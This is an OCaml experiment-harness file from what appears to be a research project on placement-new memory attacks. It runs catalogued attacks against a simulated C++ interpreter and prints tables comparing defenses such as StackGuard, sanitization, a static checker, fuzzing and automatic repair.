  |> List.iter (fun (k, v) -> Fmt.pf ppf "  %-14s %6d@," k v);
  Fmt.pf ppf "@]"
