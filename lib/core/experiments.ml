(** The experiment suite: one runner per row of DESIGN.md's per-experiment
    index (E1–E8). Each returns structured results and has a printer that
    regenerates the corresponding table of EXPERIMENTS.md. *)

module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Machine = Pna_machine.Machine
module Event = Pna_machine.Event
module Heap = Pna_machine.Heap
module Interp = Pna_minicpp.Interp
module Outcome = Pna_minicpp.Outcome
module Audit = Pna_analysis.Audit
module Finding = Pna_analysis.Finding

(* ------------------------------------------------------------------ *)
(* E1: every attack succeeds with defenses off                          *)

let e1 () = List.map (fun a -> Driver.run ~config:Config.none a) All.attacks

let pp_e1 ppf results =
  Fmt.pf ppf "@[<v>E1 — attack demonstrations (defenses off)@,%s@," (String.make 100 '-');
  List.iter
    (fun (r : Driver.result) ->
      let a = r.Driver.attack in
      Fmt.pf ppf "%-14s L%-3s %-9s %-8s %a@,"
        a.Catalog.id
        (match a.Catalog.listing with Some l -> string_of_int l | None -> "--")
        (Catalog.segment_name a.Catalog.segment)
        (if r.Driver.verdict.Catalog.success then "SUCCESS" else "FAILED")
        Outcome.pp_status r.Driver.outcome.Outcome.status)
    results;
  let ok =
    List.length (List.filter (fun r -> r.Driver.verdict.Catalog.success) results)
  in
  Fmt.pf ppf "=> %d/%d attacks demonstrated@]" ok (List.length results)

(* ------------------------------------------------------------------ *)
(* E2/E3: the StackGuard experiment of §5.2                             *)

type stackguard_trial = {
  label : string;
  config : Config.t;
  result : Driver.result;
  detected : bool;
  hijacked : bool;
}

let stackguard_trial label config attack =
  let result = Driver.run ~config attack in
  {
    label;
    config;
    result;
    detected =
      (match result.Driver.outcome.Outcome.status with
      | Outcome.Stack_smashing_detected -> true
      | _ -> false);
    hijacked = Outcome.hijacked result.Driver.outcome;
  }

let e2_e3 () =
  [
    stackguard_trial "naive smash, no protection" Config.none
      Pna_attacks.L13_stack_ret.attack;
    stackguard_trial "naive smash, StackGuard" Config.stackguard
      Pna_attacks.L13_stack_ret.attack;
    stackguard_trial "selective overwrite, no protection" Config.none
      Pna_attacks.L13_stack_ret.bypass;
    stackguard_trial "selective overwrite, StackGuard" Config.stackguard
      Pna_attacks.L13_stack_ret.bypass;
  ]

let pp_e2_e3 ppf trials =
  Fmt.pf ppf "@[<v>E2/E3 — StackGuard vs the placement-new stack smash (§5.2)@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun t ->
      Fmt.pf ppf "%-36s detected=%-5b hijacked=%-5b (%a)@," t.label t.detected
        t.hijacked Outcome.pp_status t.result.Driver.outcome.Outcome.status)
    trials;
  Fmt.pf ppf
    "=> StackGuard stops the naive smash but NOT the selective overwrite \
     (paper: \"We succeeded, and StackGuard could not detect it\")@]"

(* ------------------------------------------------------------------ *)
(* E4: information leakage sizes (§4.3)                                 *)

type leak_row = {
  leak_attack : string;
  leak_config : string;
  secret_leaked : bool;
  stale_bytes : int;  (** arena bytes beyond the newly placed footprint *)
}

let stale_bytes_of (o : Outcome.t) =
  List.fold_left
    (fun acc e ->
      match e with
      | Event.Placement { size; arena = Some a; _ } when a > size ->
        max acc (a - size)
      | _ -> acc)
    0 o.Outcome.events

let e4 () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.map
        (fun config ->
          let r = Driver.run ~config a in
          {
            leak_attack = a.Catalog.id;
            leak_config = config.Config.name;
            secret_leaked = r.Driver.verdict.Catalog.success;
            stale_bytes = stale_bytes_of r.Driver.outcome;
          })
        [ Config.none; Config.sanitize ])
    [ Pna_attacks.L21_leak_array.attack; Pna_attacks.L22_leak_object.attack ]

let pp_e4 ppf rows =
  Fmt.pf ppf "@[<v>E4 — information leakage (§4.3)@,%s@," (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "%-12s under %-9s leaked=%-5b stale window=%d bytes@,"
        r.leak_attack r.leak_config r.secret_leaked r.stale_bytes)
    rows;
  Fmt.pf ppf "=> leak window = sizeof(old) - sizeof(new); sanitization closes it@]"

(* ------------------------------------------------------------------ *)
(* E5: DoS response-time curve (§4.4)                                   *)

type dos_row = { forced_n : int; steps : int; status : Outcome.status }

(* Drive the Listing-15 server with attacker-chosen loop bounds and watch
   the work per request grow linearly until the request never finishes. *)
let e5 ?(bounds = [ 5; 100; 10_000; 1_000_000; 0x3fffffff ]) () =
  List.map
    (fun n ->
      let o =
        Interp.execute ~config:Config.none ~max_steps:5_000_000
          ~input_ints:[ n ] Pna_attacks.L15_stack_var.program_
      in
      { forced_n = n; steps = o.Outcome.steps; status = o.Outcome.status })
    bounds

let pp_e5 ppf rows =
  Fmt.pf ppf "@[<v>E5 — DoS via overwritten loop bound (§4.4)@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "forced n=%-10d -> %8d interpreter steps (%a)@," r.forced_n
        r.steps Outcome.pp_status r.status)
    rows;
  Fmt.pf ppf "=> response time grows linearly in the attacker's n until timeout@]"

(* ------------------------------------------------------------------ *)
(* E6: memory-leak growth (§4.5)                                        *)

type memleak_row = {
  iterations : int;
  leaked : int;
  predicted : int;
  heap_in_use : int;
}

let e6 ?(points = [ 0; 50; 100; 200; 400; 800 ]) () =
  List.map
    (fun iters ->
      let m =
        Interp.load ~config:Config.none
          (Pna_attacks.L23_memleak.mk_program ~checked:false)
      in
      Machine.set_input ~ints:[ iters ] ~strings:[] m;
      let _o =
        Interp.run ~max_steps:50_000_000 m
          (Pna_attacks.L23_memleak.mk_program ~checked:false)
          ~entry:"main"
      in
      {
        iterations = iters;
        leaked = Machine.leaked_bytes m;
        predicted = iters * Pna_attacks.L23_memleak.leak_per_iter;
        heap_in_use = (Machine.heap_stats m).Heap.in_use;
      })
    points

let pp_e6 ppf rows =
  Fmt.pf ppf "@[<v>E6 — memory leak growth (§4.5)@,%s@," (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf
        "iterations=%-5d leaked=%-7d predicted=%-7d in_use=%-7d %s@,"
        r.iterations r.leaked r.predicted r.heap_in_use
        (if r.leaked = r.predicted then "(exact)" else "(MISMATCH)"))
    rows;
  Fmt.pf ppf
    "=> leaked bytes = iterations x (sizeof(GradStudent) - sizeof(Student))@]"

(* ------------------------------------------------------------------ *)
(* E7: static detection (§1 claim + §7 future-work tool)                *)

type detect_row = {
  d_attack : string;
  ours : bool;
  legacy : bool;
  hardened_clean : bool option;
      (** Some true: hardened variant exists and is not flagged *)
}

let e7 () =
  List.map
    (fun (a : Catalog.t) ->
      let kinds = Audit.relevant_kinds a.Catalog.id in
      let r = Audit.analyze a.Catalog.program in
      {
        d_attack = a.Catalog.id;
        ours = Audit.flags kinds r.Audit.placement;
        legacy = Audit.flags kinds r.Audit.legacy;
        hardened_clean =
          Option.map
            (fun h ->
              not (Audit.flags kinds (Audit.analyze h).Audit.placement))
            a.Catalog.hardened;
      })
    All.attacks

let pp_e7 ppf rows =
  Fmt.pf ppf
    "@[<v>E7 — static detection: placement checker vs string-op baseline@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "%-14s ours=%-8s legacy=%-8s hardened=%s@," r.d_attack
        (if r.ours then "FLAGGED" else "MISSED")
        (if r.legacy then "flagged" else "silent")
        (match r.hardened_clean with
        | None -> "n/a"
        | Some true -> "clean"
        | Some false -> "FALSE-POSITIVE"))
    rows;
  let n = List.length rows in
  let ours = List.length (List.filter (fun r -> r.ours) rows) in
  let legacy = List.length (List.filter (fun r -> r.legacy) rows) in
  let fps =
    List.length (List.filter (fun r -> r.hardened_clean = Some false) rows)
  in
  Fmt.pf ppf
    "=> placement checker: %d/%d; legacy baseline: %d/%d; false positives on \
     hardened variants: %d@]"
    ours n legacy n fps

(* ------------------------------------------------------------------ *)
(* E8: defense efficacy matrix + overhead                               *)

type cell = Win | Blocked of string | Neutralized of string

let e8_matrix ?(configs = Config.all) () =
  List.map
    (fun (a : Catalog.t) ->
      ( a,
        List.map
          (fun config ->
            let r = Driver.run ~config a in
            let cell =
              if r.Driver.verdict.Catalog.success then Win
              else
                match r.Driver.outcome.Outcome.status with
                | Outcome.Stack_smashing_detected -> Blocked "canary"
                | Outcome.Defense_blocked d -> Blocked d
                | st -> Neutralized (Fmt.str "%a" Outcome.pp_status st)
            in
            (config, cell))
          configs ))
    All.attacks

let pp_e8_matrix ppf matrix =
  Fmt.pf ppf "@[<v>E8 — attack x defense matrix@,";
  (match matrix with
  | (_, cells) :: _ ->
    Fmt.pf ppf "%-14s" "attack";
    List.iter (fun (c, _) -> Fmt.pf ppf "%-14s" c.Config.name) cells;
    Fmt.pf ppf "@,%s@," (String.make (14 + (14 * List.length cells)) '-')
  | [] -> ());
  List.iter
    (fun ((a : Catalog.t), cells) ->
      Fmt.pf ppf "%-14s" a.Catalog.id;
      List.iter
        (fun (_, cell) ->
          Fmt.pf ppf "%-14s"
            (match cell with
            | Win -> "ATTACK-WINS"
            | Blocked d -> d
            | Neutralized _ -> "no-effect"))
        cells;
      Fmt.pf ppf "@,")
    matrix;
  Fmt.pf ppf "@]"

(* Overhead: interpreter steps are identical across configs (the defenses
   act inside machine primitives), so the bench harness times wall-clock;
   here we expose the workload runner and a steps-based sanity count. *)
let e8_overhead ?(n = 2_000) () =
  List.map
    (fun config ->
      let o = Workloads.run ~config Workloads.pool_server ~n in
      (config, o.Outcome.status, o.Outcome.steps))
    (Config.all @ [ Config.pool_discipline ])

let pp_e8_overhead ppf rows =
  Fmt.pf ppf "@[<v>E8 — benign pool-server workload under each defense@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun (c, status, steps) ->
      Fmt.pf ppf "%-16s %a (%d steps)@," c.Config.name Outcome.pp_status status
        steps)
    rows;
  Fmt.pf ppf "=> all defenses pass the benign workload; timing in bench/main.exe@]"

(* ------------------------------------------------------------------ *)
(* E9: chaos — graceful degradation under injected faults               *)

module Plan = Pna_chaos.Plan

(* The benign pool server wrapped as a catalogue entry so the supervisor
   can drive it like any attack. *)
let benign_pool =
  Catalog.make ~id:"benign-pool" ~section:"2.1" ~name:"benign pool server"
    ~segment:Catalog.Data_bss ~goal:"serve 64 requests to completion"
    ~program:Workloads.pool_server
    ~mk_input:(fun _ -> ([ 64 ], []))
    ~check:(fun _ o ->
      if Outcome.exited_normally o then Catalog.success "served to completion"
      else Catalog.failure "benign workload did not complete")
    ()

type chaos_row = {
  ch_seed : int;
  ch_attack : string;
  ch_config : string;
  ch_status : Outcome.status;
  ch_attempts : int;
  ch_fired : string list;
  ch_escaped : bool;
      (** an exception escaped the supervisor — must never be true *)
  ch_detect_ok : bool;
      (** degradation invariant: a perturbed run only reports attack
          success when the unperturbed baseline also succeeds — chaos
          must never turn a blocked attack into a win *)
}

(* Representative victims: a stack smash, the wire-format overflow, a
   heap overflow, and the benign workload — every fault category in a
   plan has something to hit. *)
let e9_programs () =
  [
    Pna_attacks.L13_stack_ret.attack;
    Pna_attacks.Ser_remote_object.course_count;
    Pna_attacks.L12_heap.attack;
    benign_pool;
  ]

(* a step budget large enough for every victim, small enough that a
   chaos-corrupted loop bound cannot stall the sweep *)
let e9_budget = 200_000

let e9 ?(seed_base = 1) ?(seeds = 10) ?(rate = 1.0) ?(configs = Config.all) ()
    =
  let programs = e9_programs () in
  let baselines =
    List.map
      (fun (a : Catalog.t) ->
        ( a.Catalog.id,
          List.map
            (fun c ->
              ( c.Config.name,
                (Driver.run ~config:c a).Driver.verdict.Catalog.success ))
            configs ))
      programs
  in
  let baseline_success aid cname = List.assoc cname (List.assoc aid baselines) in
  List.concat_map
    (fun (a : Catalog.t) ->
      List.concat_map
        (fun config ->
          List.init seeds (fun k ->
              let seed = seed_base + k in
              let plan = Plan.generate ~rate ~seed () in
              match
                Driver.supervise ~config ~max_steps:e9_budget ~plan a
              with
              | s ->
                {
                  ch_seed = seed;
                  ch_attack = a.Catalog.id;
                  ch_config = config.Config.name;
                  ch_status = s.Driver.sv_outcome.Outcome.status;
                  ch_attempts = s.Driver.sv_attempts;
                  ch_fired = s.Driver.sv_fired;
                  ch_escaped = false;
                  ch_detect_ok =
                    (not s.Driver.sv_verdict.Catalog.success)
                    || baseline_success a.Catalog.id config.Config.name;
                }
              | exception exn ->
                {
                  ch_seed = seed;
                  ch_attack = a.Catalog.id;
                  ch_config = config.Config.name;
                  ch_status =
                    Outcome.Crashed
                      (Fmt.str "ESCAPED: %s" (Printexc.to_string exn));
                  ch_attempts = 0;
                  ch_fired = [];
                  ch_escaped = true;
                  ch_detect_ok = false;
                }))
        configs)
    programs

let status_key = function
  | Outcome.Exited _ -> "exited"
  | Outcome.Recovered _ -> "recovered"
  | Outcome.Crashed _ -> "crashed"
  | Outcome.Stack_smashing_detected -> "canary"
  | Outcome.Defense_blocked _ -> "blocked"
  | Outcome.Timeout _ -> "timeout"
  | Outcome.Out_of_memory -> "oom"
  | Outcome.Internal_error _ -> "internal-error"
  | Outcome.Arc_injection _ -> "arc-inj"
  | Outcome.Code_injection _ -> "code-inj"

let pp_e9 ppf rows =
  Fmt.pf ppf "@[<v>E9 — chaos: graceful degradation under injected faults@,%s@,"
    (String.make 100 '-');
  (* one line per attack x config: a histogram of classified statuses *)
  let groups =
    List.fold_left
      (fun acc r ->
        let key = (r.ch_attack, r.ch_config) in
        let prev = try List.assoc key acc with Not_found -> [] in
        (key, r :: prev) :: List.remove_assoc key acc)
      [] rows
    |> List.rev
  in
  List.iter
    (fun ((attack, config), rs) ->
      let histo =
        List.fold_left
          (fun acc r ->
            let k = status_key r.ch_status in
            let n = try List.assoc k acc with Not_found -> 0 in
            (k, n + 1) :: List.remove_assoc k acc)
          [] (List.rev rs)
        |> List.rev
      in
      let recovered =
        List.length (List.filter (fun r -> r.ch_attempts > 1) rs)
      in
      let fired =
        List.fold_left (fun n r -> n + List.length r.ch_fired) 0 rs
      in
      Fmt.pf ppf "%-16s %-12s runs=%-3d fired=%-3d retried=%-3d %a@," attack
        config (List.length rs) fired recovered
        Fmt.(list ~sep:(any " ") (pair ~sep:(any ":") string int))
        histo)
    groups;
  let n = List.length rows in
  let escaped = List.length (List.filter (fun r -> r.ch_escaped) rows) in
  let bad = List.length (List.filter (fun r -> not r.ch_detect_ok) rows) in
  Fmt.pf ppf
    "=> %d perturbed runs: %d escaped exceptions, degradation invariant held \
     in %d/%d@]"
    n escaped (n - bad) n

(* ------------------------------------------------------------------ *)
(* E10 (extension): random testing vs the directed attacker             *)

type fuzz_tally = {
  f_trials : int;
  f_clean : int;
  f_crashed : int;
  f_exploited : int;  (** arc or code injection found by luck *)
  directed_works : bool;
  statically_flagged : bool;
}

(* Fuzz the Listing-13 server with random SSN triples (Haugh & Bishop's
   testing approach, paper ref [11]): dynamic testing observes crashes,
   essentially never exploitability; the directed attacker needs one
   attempt; the static checker none. *)
let e10 ?(trials = 500) () =
  let prog = Pna_attacks.L13_stack_ret.mk_program ~checked:false in
  let rng = Random.State.make [| 0x5eed |] in
  let rand31 () =
    (Random.State.bits rng lsl 1 lxor Random.State.bits rng) land 0x7fffffff
  in
  let clean = ref 0 and crashed = ref 0 and exploited = ref 0 in
  for _ = 1 to trials do
    let ints = List.init 3 (fun _ -> rand31 ()) in
    let o = Interp.execute ~config:Config.none ~input_ints:ints prog in
    match o.Outcome.status with
    | Outcome.Exited _ -> incr clean
    | Outcome.Crashed _ -> incr crashed
    | Outcome.Arc_injection _ | Outcome.Code_injection _ -> incr exploited
    | _ -> ()
  done;
  let directed = Driver.run Pna_attacks.L13_stack_ret.attack in
  {
    f_trials = trials;
    f_clean = !clean;
    f_crashed = !crashed;
    f_exploited = !exploited;
    directed_works = directed.Driver.verdict.Catalog.success;
    statically_flagged =
      Pna_analysis.Placement_checker.actionable prog <> [];
  }

let pp_e10 ppf t =
  Fmt.pf ppf
    "@[<v>E10 — random testing vs directed attack vs static analysis@,%s@,     fuzz trials: %d -> clean=%d crashed=%d exploited=%d@,     directed attacker: %s in one attempt@,     static checker: %s without executing@,     => fuzzing sees crashes, not exploitability@]"
    (String.make 100 '-') t.f_trials t.f_clean t.f_crashed t.f_exploited
    (if t.directed_works then "succeeds" else "fails")
    (if t.statically_flagged then "flags the defect" else "misses it")

(* ------------------------------------------------------------------ *)
(* E11 (extension): automatic repair — the §7 tool's second half         *)

type repair_row = {
  r_attack : string;
  repairs : int;
  neutralized : bool;
  residual_flagged : bool;
      (** when the attack survives, does the checker still flag the
          hardened program? (soundness hand-off) *)
}

let e11 () =
  List.map
    (fun (a : Catalog.t) ->
      let h = Pna_analysis.Hardener.harden a.Catalog.program in
      let r =
        Driver.run ~config:Config.none
          { a with Catalog.program = h; Catalog.hardened = None }
      in
      let survived = r.Driver.verdict.Catalog.success in
      {
        r_attack = a.Catalog.id;
        repairs = Pna_analysis.Hardener.count_repairs a.Catalog.program;
        neutralized = not survived;
        residual_flagged =
          (not survived)
          || Pna_analysis.Placement_checker.actionable h <> [];
      })
    All.attacks

let pp_e11 ppf rows =
  Fmt.pf ppf
    "@[<v>E11 — automatic repair (§7: \"automatically addressing these \
     vulnerabilities\")@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r ->
      Fmt.pf ppf "%-14s repairs=%d %s%s@," r.r_attack r.repairs
        (if r.neutralized then "neutralized" else "SURVIVES (out of scope)")
        (if r.residual_flagged then "" else "  [SILENT GAP!]"))
    rows;
  let fixed = List.length (List.filter (fun r -> r.neutralized) rows) in
  Fmt.pf ppf
    "=> %d/%d attacks neutralized by source repair; every survivor is still \
     flagged by the checker@]"
    fixed (List.length rows)

(* ------------------------------------------------------------------ *)
(* E12 (extension): throughput — the parallel scenario service           *)

module Service = Pna_service.Service

type service_phase = {
  sp_label : string;
  sp_jobs : int;  (** effective worker-domain count *)
  sp_requests : int;
  sp_seconds : float;
  sp_stats : Service.stats;  (** cumulative for that phase's service *)
}

type service_report = {
  sr_phases : service_phase list;
  sr_agree : bool;
      (** pooled replies over the whole catalogue are verdict-identical
          to the sequential {!Driver.run} *)
  sr_memo_speedup : float;
      (** same benign request stream, executing every request vs serving
          repeats from the memo cache (one worker, so the ratio isolates
          memoization from parallelism) *)
}

(* capped so the DoS/OOM catalogue entries cannot stall the sweep; both
   the pooled and the sequential side run under the same cap, so the
   comparison stays exact *)
let e12_budget = 60_000

(* The memoization target: the benign E8 pool-server workload requested
   repeatedly under every defense — the steady state of a scenario
   service fed by a CI loop. *)
let e12_stream ~repeats =
  List.concat
    (List.init repeats (fun _ ->
         List.map
           (fun config ->
             Service.job ~config ~max_steps:e12_budget benign_pool)
           (Config.all @ [ Config.pool_discipline ])))

let e12_phase ~label ~jobs ~memo stream =
  let svc = Service.create ~jobs ~memo () in
  (* settle major-GC debt left by earlier phases (sanitized runs retire
     whole shadowed machines) so it is not billed to this timed region *)
  Gc.full_major ();
  let (_ : Service.reply list), secs =
    Service.timed (fun () -> Service.run_batch svc stream)
  in
  let phase =
    {
      sp_label = label;
      sp_jobs = Service.jobs svc;
      sp_requests = List.length stream;
      sp_seconds = secs;
      sp_stats = Service.stats svc;
    }
  in
  Service.shutdown svc;
  phase

let e12 ?(repeats = 24) ?(scale = [ 1; 2; 4 ]) () =
  (* determinism: whole catalogue, undefended and fully defended, pooled
     at 4 domains vs the sequential driver *)
  let verify_jobs =
    Service.matrix_jobs
      ~configs:[ Config.none; Config.full ]
      ~max_steps:e12_budget ()
  in
  let sequential =
    List.map
      (fun (j : Service.job) ->
        Service.reply_of_result
          (Driver.run ~config:j.Service.j_config ~max_steps:e12_budget
             j.Service.j_attack))
      verify_jobs
  in
  let svc = Service.create ~jobs:4 () in
  let pooled = Service.run_batch svc verify_jobs in
  Service.shutdown svc;
  let strip (r : Service.reply) = { r with Service.r_cached = false } in
  let sr_agree = List.map strip pooled = List.map strip sequential in
  (* memoization: one worker executing every request, then one worker
     serving the identical stream mostly from the cache *)
  let stream = e12_stream ~repeats in
  let cold = e12_phase ~label:"memo off" ~jobs:1 ~memo:false stream in
  let warm = e12_phase ~label:"memo on" ~jobs:1 ~memo:true stream in
  (* domain scaling over the same stream, memoization off so the work is
     real; requests/second here is hardware-honest, not asserted *)
  let scaling =
    List.map
      (fun n ->
        e12_phase ~label:(Fmt.str "%d domain%s" n (if n = 1 then "" else "s"))
          ~jobs:n ~memo:false stream)
      scale
  in
  {
    sr_phases = (cold :: warm :: scaling);
    sr_agree;
    sr_memo_speedup =
      (if warm.sp_seconds > 0. then cold.sp_seconds /. warm.sp_seconds
       else Float.infinity);
  }

let pp_service_phase ppf p =
  let per_sec =
    if p.sp_seconds > 0. then float_of_int p.sp_requests /. p.sp_seconds
    else Float.infinity
  in
  Fmt.pf ppf "%-10s jobs=%d  %4d req in %6.3fs  (%8.0f req/s)  %a" p.sp_label
    p.sp_jobs p.sp_requests p.sp_seconds per_sec Service.pp_stats_line
    p.sp_stats

let pp_e12 ppf r =
  Fmt.pf ppf
    "@[<v>E12 — scenario-service throughput (snapshot reuse + memoization)@,%s@,"
    (String.make 100 '-');
  List.iter (fun p -> Fmt.pf ppf "%a@," pp_service_phase p) r.sr_phases;
  Fmt.pf ppf
    "=> pooled verdicts %s the sequential driver; memoization speeds the \
     repeated benign stream %.1fx@,\
     \   (domain scaling is hardware-dependent — see bench/main.exe service)@]"
    (if r.sr_agree then "match" else "DIVERGE FROM")
    r.sr_memo_speedup

(* ------------------------------------------------------------------ *)
(* E13 (extension): telemetry — overhead and trace completeness          *)

module Telemetry = Pna_telemetry.Telemetry
module Trace = Pna_telemetry.Trace

type e13_overhead = {
  ov_baseline_s : float;  (** best block: inline loop, no telemetry sites *)
  ov_production_s : float;  (** best block: driver path, telemetry off *)
  ov_ratio : float;  (** production / baseline *)
}

type e13_trace_row = {
  tr_scenario : string;
  tr_config : string;
  tr_events : int;  (** machine events the run emitted *)
  tr_complete : bool;
      (** every emitted event appears as a trace instant of its kind,
          and a driver "run" span encloses them *)
  tr_blocking_seen : bool;
      (** a blocked outcome has its blocking event in the trace (true
          vacuously when the run was not blocked) *)
}

type e13_report = {
  t13_overhead : e13_overhead;
  t13_rows : e13_trace_row list;
  t13_dropped : int;  (** ring-buffer drops across the completeness sweep *)
}

(* Overhead: the E12 workload (benign_pool under every config) driven two
   ways on one domain. The baseline inlines what PR-2's run_prepared did
   — rewind, recompute input, interpret, judge — calling the machine and
   interpreter directly so none of the telemetry call sites added by
   this layer (driver spans, vmem delta sampling, span annotations) are
   on the path. The production side is {!Driver.run_prepared} with
   telemetry disabled. Best-of-[blocks] timing on both sides resists
   scheduler noise; the ratio gates the disabled-telemetry machinery at
   5%. *)
let e13_overhead ~reps ~blocks () =
  assert (not (Telemetry.enabled ()));
  let configs = Config.all @ [ Config.pool_discipline ] in
  let a = benign_pool in
  let baselines =
    List.map
      (fun config ->
        let m = Interp.load ~config a.Catalog.program in
        (m, Machine.snapshot m))
      configs
  in
  let baseline_block () =
    List.iter
      (fun (m, snap) ->
        for _ = 1 to reps do
          Machine.restore m snap;
          let ints, strings = a.Catalog.mk_input m in
          Machine.set_input ~ints ~strings m;
          let o =
            Interp.run ~max_steps:e12_budget m a.Catalog.program
              ~entry:a.Catalog.entry
          in
          ignore (a.Catalog.check m o)
        done)
      baselines
  in
  let prepared = List.map (fun config -> Driver.prepare ~config a) configs in
  let production_block () =
    List.iter
      (fun p ->
        for _ = 1 to reps do
          ignore (Driver.run_prepared ~max_steps:e12_budget p)
        done)
      prepared
  in
  (* warm both paths once so neither side pays first-touch costs *)
  baseline_block ();
  production_block ();
  (* blocks alternate sides so frequency/thermal drift over a sustained
     run hits both alike — measuring all of one side then all of the
     other systematically penalizes whichever ran second *)
  let best_b = ref Float.infinity and best_p = ref Float.infinity in
  for _ = 1 to blocks do
    let t0 = Unix.gettimeofday () in
    baseline_block ();
    let t1 = Unix.gettimeofday () in
    production_block ();
    let t2 = Unix.gettimeofday () in
    best_b := Float.min !best_b (t1 -. t0);
    best_p := Float.min !best_p (t2 -. t1)
  done;
  let ov_baseline_s = !best_b in
  let ov_production_s = !best_p in
  {
    ov_baseline_s;
    ov_production_s;
    ov_ratio =
      (if ov_baseline_s > 0. then ov_production_s /. ov_baseline_s else 1.);
  }

(* Completeness: every catalogue scenario under defenses off and fully
   on, traced. The run's machine events are the ground truth; the trace
   must contain an instant per event (matched by kind and count) inside
   a driver "run" span. *)
let e13_completeness () =
  let count_by key xs =
    let tbl = Hashtbl.create 16 in
    List.iter
      (fun x ->
        let k = key x in
        Hashtbl.replace tbl k (1 + Option.value (Hashtbl.find_opt tbl k) ~default:0))
      xs;
    tbl
  in
  let rows =
    List.concat_map
      (fun (a : Catalog.t) ->
        List.map
          (fun (config : Config.t) ->
            Trace.reset ();
            let r = Driver.run ~config ~max_steps:e12_budget a in
            let evs = Trace.events () in
            let instants =
              List.filter_map
                (fun (e : Trace.event) ->
                  if e.Trace.ev_instant && e.Trace.ev_cat = "machine" then
                    Some e.Trace.ev_name
                  else None)
                evs
            in
            let machine_events = r.Driver.outcome.Outcome.events in
            let want = count_by Event.kind machine_events in
            let got = count_by Fun.id instants in
            let complete =
              Hashtbl.fold
                (fun k n acc ->
                  acc && Option.value (Hashtbl.find_opt got k) ~default:0 = n)
                want true
              && List.exists
                   (fun (e : Trace.event) ->
                     (not e.Trace.ev_instant) && e.Trace.ev_name = "run")
                   evs
            in
            let blocking_seen =
              (not (Outcome.blocked r.Driver.outcome))
              || List.exists
                   (fun ev ->
                     Event.is_blocking ev
                     && List.mem (Event.kind ev) instants)
                   machine_events
              (* StackGuard terminations block without a Canary event only
                 in principle; the canary event is always emitted, so a
                 blocked run with no blocking event is a completeness
                 failure unless the status alone carried it *)
              || machine_events = []
            in
            {
              tr_scenario = a.Catalog.id;
              tr_config = config.Config.name;
              tr_events = List.length machine_events;
              tr_complete = complete;
              tr_blocking_seen = blocking_seen;
            })
          [ Config.none; Config.full ])
      All.attacks
  in
  let dropped = Trace.dropped () in
  (rows, dropped)

let e13 ?(reps = 8) ?(blocks = 5) () =
  Telemetry.disable ();
  let t13_overhead = e13_overhead ~reps ~blocks () in
  let t13_rows, t13_dropped =
    Telemetry.with_enabled (fun () -> e13_completeness ())
  in
  Trace.reset ();
  { t13_overhead; t13_rows; t13_dropped }

let pp_e13 ppf r =
  Fmt.pf ppf "@[<v>E13 — telemetry: disabled overhead + trace completeness@,%s@,"
    (String.make 100 '-');
  Fmt.pf ppf
    "overhead: baseline %.4fs, instrumented-disabled %.4fs  (ratio %.3f, gate \
     <= 1.05)@,"
    r.t13_overhead.ov_baseline_s r.t13_overhead.ov_production_s
    r.t13_overhead.ov_ratio;
  let incomplete =
    List.filter (fun t -> not (t.tr_complete && t.tr_blocking_seen)) r.t13_rows
  in
  List.iter
    (fun t ->
      Fmt.pf ppf "%-16s %-14s %3d events  INCOMPLETE TRACE@," t.tr_scenario
        t.tr_config t.tr_events)
    incomplete;
  Fmt.pf ppf
    "=> %d/%d scenario traces complete (every machine event mirrored as a \
     span-scoped instant), %d ring drops@]"
    (List.length r.t13_rows - List.length incomplete)
    (List.length r.t13_rows) r.t13_dropped

(* ------------------------------------------------------------------ *)
(* E14 (extension): the PNASan oracle-completeness gate                  *)

module San = Pna_sanitizer.Sanitizer

(* Per-attack expectation: the kind of the *first* recorded violation
   under defenses off, i.e. where the oracle places the first corrupting
   access. [None] marks the two documented exclusions — L23's leak and
   OOM DoS never touch memory they do not own, so a memory-state oracle
   has nothing to flag (E6's accounting and the step budget catch them
   instead). *)
let e14_expected =
  [
    ("L03-strobj", Some "placement-overflow");
    ("L03-misalign", Some "placement-overflow");
    ("L05-remote", Some "placement-overflow");
    ("L06-copyloop", Some "placement-overflow");
    ("L07-copyctor", Some "placement-overflow");
    ("L08-indirect", Some "placement-overflow");
    ("L10-internal", Some "placement-overflow");
    ("L11-bss", Some "placement-overflow");
    ("L12-heap", Some "meta-write");
    ("L13-ret", Some "stack-smash");
    ("L13-bypass", Some "stack-smash");
    ("L13-inject", Some "stack-smash");
    ("L14-bssvar", Some "placement-overflow");
    ("L15-var", Some "placement-overflow");
    ("L15-dos", Some "placement-overflow");
    ("L15-skip", Some "placement-overflow");
    ("L16-member", Some "placement-overflow");
    ("VT-bss", Some "placement-overflow");
    ("VT-stack", Some "placement-overflow");
    ("L17-funptr", Some "placement-overflow");
    ("L18-varptr", Some "placement-overflow");
    ("L19-arrstack", Some "placement-overflow");
    ("L20-arrbss", Some "placement-overflow");
    ("L21-leakarr", Some "stale-read");
    ("L22-leakobj", Some "stale-read");
    ("L23-memleak", None);
    ("L23-oom", None);
    ("SER-object", Some "placement-overflow");
    ("SER-count", Some "placement-overflow");
  ]

type e14_row = {
  o_scenario : string;
  o_expected : string option;  (** expected first-violation kind *)
  o_first : string option;  (** observed first-violation kind *)
  o_records : int;
  o_verdict_same : bool;
      (** the sanitized run's verdict equals the unsanitized run's — the
          oracle observes, never perturbs *)
}

let e14_row_ok r = r.o_first = r.o_expected && r.o_verdict_same

type e14_clean_row = {
  cl_scenario : string;
  cl_records : int;  (** false positives — must be 0 *)
}

type e14_report = {
  t14_rows : e14_row list;
  t14_clean : e14_clean_row list;
  t14_overhead : e13_overhead;
      (** same gate shape as E13: the sanitizer-capable driver path with
          the oracle *not* attached vs the inline baseline *)
  t14_enabled_ratio : float;
      (** informative: oracle attached vs not, same driver path *)
}

(* Completeness sweep: every catalogue attack under defenses off, oracle
   attached. The first recorded violation is where the oracle says the
   attack first corrupts memory; the verdict must match the plain run. *)
let e14_completeness () =
  List.map
    (fun (a : Catalog.t) ->
      let plain =
        Driver.run ~config:Config.none ~max_steps:e12_budget ~sanitize:false a
      in
